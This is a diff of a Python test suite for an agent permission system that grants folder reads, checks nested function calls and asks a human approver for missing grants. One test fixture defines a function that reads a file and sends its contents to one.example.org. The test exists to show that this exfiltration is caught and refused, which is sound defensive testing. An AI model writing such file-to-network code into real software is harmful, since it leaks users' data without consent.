@@ -1,4 +1,4 @@
-"""A folder that is granted once, for reading, to all functions that an agent makes here: who has it, and who does not."""
+"""A folder that is granted once, for reading, to all functions that an agent makes here: who has it, who not."""
 
 from collections.abc import Awaitable, Callable
 from pathlib import Path
@@ -214,7 +214,7 @@ async def test_who_calls_what_has_the_folder_asks_unless_it_is_the_agents_too_an
     assert await read(here, "inner") == ("two", [])
     await here.save(reader("mine", "Return what it reads, for me.", calls), here.root / "functions" / "mine.py")
     assert await read(here, "mine") == ("refused", ["mine: call the function peek, which has grants of its own"])
-    sends = f'text = self.call("peek", path=path)\n    self.fetch("http://one.example.org/" + text)\n    return text'
+    sends = 'text = self.call("peek", path=path)\nself.fetch(f"http://one.example.org/{text}")\nreturn text'
     asked = here.shop.granting.approver = human("no")
     await here.shop.create("send", reader("send", "Send what a file says.", sends), "send", author=AGENT)
     assert [question.missing for question in asked.asked] == [Grants(network=("one.example.org",), functions=("peek",))]
